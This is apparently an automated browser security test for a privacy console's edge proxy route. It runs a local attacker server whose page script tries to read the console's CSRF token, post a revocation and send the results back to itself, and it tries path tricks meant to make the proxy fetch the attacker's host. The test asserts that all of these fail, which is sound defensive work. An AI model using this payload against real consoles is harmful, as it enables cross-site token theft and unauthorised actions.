import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromiumAvailable, DESKTOP_UA, type Stack, sharedStack } from "../../scripts/harness/stack";
import { waitFor } from "../../scripts/harness/wait";
import { insertDemoSite } from "../../scripts/seed/demo-data";
import { createDb } from "../../worker/store/db";

/**
 * An attacker's page in front of a signed-in privacy operator, in Chromium. The attacker serves a
 * page whose script tries to read the console's privacy page (and its CSRF token) and to post a
 * revocation, both on the host the page was served from and on the console's host, then reports
 * what it got. The operator is signed in to the console and (1) follows a link that tries to make
 * the edge route fetch the attacker's host through the path, and (2) opens a site whose own origin
 * serves the attacker's page through the edge route (a compromised or hostile origin). Neither may
 * read a console page or revoke anyone.
 */

type Report = Record<string, { status?: number; body?: string; error?: string }>;
type Attacker = { port: number; paths: string[]; reports: Report[]; close: () => Promise<void> };

/** The attack page: everything it can do with the operator's browser, reported back to its server. */
function attackPage(consoleOrigin: string, reportTo: string): string {
  const script = `
  (async () => {
    const out = {};
    const attempt = async (name, url, init) => {
      try {
        const res = await fetch(url, { credentials: "include", redirect: "manual", ...init });
        out[name] = { status: res.status, body: (await res.text()).slice(0, 50000) };
      } catch (err) {
        out[name] = { error: String(err) };
      }
    };
    await attempt("readHere", "/admin/privacy");
    await attempt("readConsole", ${JSON.stringify(`${consoleOrigin}/admin/privacy`)});
    const csrf = [out.readHere, out.readConsole].map((r) => (r && r.body || "").match(/name="csrf" value="([^"]+)"/)).find(Boolean);
    const form = () => new URLSearchParams({ csrf: csrf ? csrf[1] : "", subjectId: "11111111-1111-4111-8111-111111111111", reason: "attack" });
    await attempt("revokeHere", "/admin/privacy/revocations", { method: "POST", body: form() });
    await attempt("revokeConsole", ${JSON.stringify(`${consoleOrigin}/admin/privacy/revocations`)}, { method: "POST", body: form(), mode: "no-cors" });
    await fetch(${JSON.stringify(reportTo)}, { method: "POST", body: JSON.stringify(out), mode: "no-cors" });
  })();`;
  return `<!doctype html><html><head><title>Win a prize</title></head><body><div data-slot="hero">prize</div><script>${script}</script></body></html>`;
}

/** The attacker's server: serves the attack page on every path, records every path and report. */
async function startAttacker(consoleOrigin: string): Promise<Attacker> {
  const paths: string[] = [];
  const reports: Report[] = [];
  let port = 0;
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      if (req.url === "/report") {
        reports.push(JSON.parse(Buffer.concat(chunks).toString("utf8")) as Report);
        res.writeHead(204).end();
        return;
      }
      paths.push(req.url ?? "");
      res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(attackPage(consoleOrigin, `http://127.0.0.1:${port}/report`));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  return { port, paths, reports, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe.skipIf(!chromiumAvailable)("an attack page reached through the edge route cannot act in the console", () => {
  let stack: Stack;
  let attacker: Attacker;
  const countOf = async (sql: string) => (await stack.d1.prepare(sql).first<{ n: number }>())?.n ?? 0;

  beforeAll(async () => {
    stack = await sharedStack();
    attacker = await startAttacker(stack.consoleUrl.origin);
    const db = createDb(stack.d1);
    // A shop whose origin is a real http origin (the attacker's server stands in for it only under /shop/),
    // and a site whose origin is the attacker's page itself.
    const origin = `http://127.0.0.1:${attacker.port}`;
    await insertDemoSite(db, {
      id: "attack-shop",
      name: "attack-shop",
      consentModel: "opt-out",
      allowedOrigins: [],
      originUrl: `${origin}/shop/`,
    });
    await insertDemoSite(db, {
      id: "attack-hostile",
      name: "attack-hostile",
      consentModel: "opt-out",
      allowedOrigins: [],
      originUrl: `${origin}/hostile/`,
    });
  }, 240_000);
  afterAll(async () => {
    await attacker?.close();
  });

  it("a privacy operator signed in to the console follows the attacker's links: nothing is read, nobody is revoked", async () => {
    // The stack is shared with the other browser files, which run one after another: count what this test adds.
    const revocationsBefore = await countOf("SELECT count(*) AS n FROM revocations");
    const auditedBefore = await countOf("SELECT count(*) AS n FROM audit_log WHERE action = 'privacy.revoke'");
    const context = await stack.browser.newContext({ userAgent: DESKTOP_UA });
    const page = await context.newPage();
    await page.goto(new URL("/admin", stack.consoleUrl).href);
    await page.fill("#token", stack.secrets.PRIVACY_TOKEN ?? "");
    await Promise.all([page.waitForURL((url) => url.pathname === "/admin/privacy"), page.press("#token", "Enter")]);

    // (1) The path names the attacker's host: refused before anything is fetched.
    for (const trick of [`\\\\127.0.0.1:${attacker.port}/steal`, `/127.0.0.1:${attacker.port}/steal`]) {
      const answer = await page.goto(`${stack.url.origin}/edge/attack-shop/${trick}`);
      expect(answer?.status(), trick).toBe(400);
    }
    expect(attacker.paths.filter((p) => p.startsWith("/steal"))).toEqual([]);

    // The edge route is not served on the console's host at all.
    const onConsoleHost = await page.goto(new URL("/edge/attack-hostile/", stack.consoleUrl).href);
    expect(onConsoleHost?.status()).toBe(404);
    expect(attacker.paths).toEqual([]);

    // (2) A hostile origin's page, served through the edge route: its script runs, on the edge host.
    await page.goto(`${stack.url.origin}/edge/attack-hostile/`);
    const report = await waitFor(async () => attacker.reports[0], 30_000);
    expect(attacker.paths).toEqual(["/hostile/"]);
    // Same host: no console there. Console host: another origin, so the browser hides the answer,
    // and the strict cookie is not even sent from this site.
    expect(report.readHere?.status).toBe(404);
    expect(report.readHere?.body).not.toContain('name="csrf"');
    expect(report.readConsole?.error).toMatch(/TypeError/);
    expect(report.revokeHere?.status).toBe(404);

    // Nothing was revoked or audited as a revocation, and the operator's session still works.
    expect(await countOf("SELECT count(*) AS n FROM revocations")).toBe(revocationsBefore);
    expect(await countOf("SELECT count(*) AS n FROM audit_log WHERE action = 'privacy.revoke'")).toBe(auditedBefore);
    await page.goto(new URL("/admin/privacy", stack.consoleUrl).href);
    expect(new URL(page.url()).pathname).toBe("/admin/privacy");
    await context.close();
  });
});
